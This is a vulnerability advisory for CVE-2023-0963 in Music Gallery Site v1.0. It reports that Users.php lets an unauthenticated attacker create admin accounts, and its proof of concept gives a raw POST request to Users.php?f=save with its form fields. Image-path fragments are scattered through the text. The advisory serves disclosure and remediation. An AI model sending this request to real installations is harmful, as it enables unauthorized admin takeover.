Authored by Muhammad Navaid Zafar Ansari

Music Gallery Site version 1.0 suffers from a missing authentication vulnerability that allows for privilege escalation.

advisories | CVE-2023-0963

# Music Gallery Site - Broken Access Control leads to compromise of complete application by adding admin user without log-in into the application.

### Date:
> 21 February 2023

### CVE Assigned:
**[CVE-2023-0963](** []( [](

### Author Email:
> [email protected]
### Vendor Homepage:
### Software Link:
> [Music Gallery Site](
### Version:
> v 1.0
### Broken Authentication:
> Broken Access Control is a type of security vulnerability that occurs when a web application fails to properly restrict users' access to certain resources and functionality. Access control is the process of ensuring that users are authorized to access only the resources and functionality that they are supposed to. Broken Access Control can occur due to poor implementation of access controls in the application, failure to validate input, or insufficient testing and review.

### Vulnerable URLs:
> /php-music/classes/Users.php


### Affected Page:
> Users.php , Master.php
> On these page, application isn't verifying the authenticated mechanism. Due to that, all the parameters are vulnerable to broken access control and any remote attacker could create and update the data into the application. Specifically, Users.php could allow to remote attacker to create a admin user without log-in to the application.
### Description:
> Broken access control allows any remote attacker to create, update and delete the data of the application. Specifically, adding the admin users
### Proof of Concept:
> Following steps are involved:
1. Send a POST request with required parameter to Users.php?f=save (See Below Request)2. Request:
POST /php-music/classes/Users.php?f=save HTTP/1.1
Host: localhost
Content-Length: 876
sec-ch-ua: "Not?A_Brand";v="8", "Chromium";v="108"
Accept: */*
Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryjwBNagY7zt6cjYHp
X-Requested-With: XMLHttpRequest
sec-ch-ua-mobile: ?0
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.5359.125 Safari/537.36sec-ch-ua-platform: "Linux"
Origin: http://localhost
Sec-Fetch-Site: same-origin
Sec-Fetch-Mode: cors
Sec-Fetch-Dest: empty
Referer: http://localhost/php-music/admin/?page=user/manage_user
Accept-Encoding: gzip, deflate
Accept-Language: en-US,en;q=0.9
Connection: close

Content-Disposition: form-data; name="id"

Content-Disposition: form-data; name="firstname"

Content-Disposition: form-data; name="middlename"

Content-Disposition: form-data; name="lastname"

Content-Disposition: form-data; name="username"

Content-Disposition: form-data; name="password"

Content-Disposition: form-data; name="type"

Content-Disposition: form-data; name="img"; filename=""
Content-Type: application/octet-stream3. It will create the user by defining the valid values (see below screenshot of successfull response), Successful exploit screenshots are below (without cookie parameter)



4. Vulnerable Code Snippets:





### Recommendation:
> Whoever uses this CMS, should update the authorization mechanism on top of theUsers.php , Master.php pages asper requirement to avoid a BrokenAccess Control attack: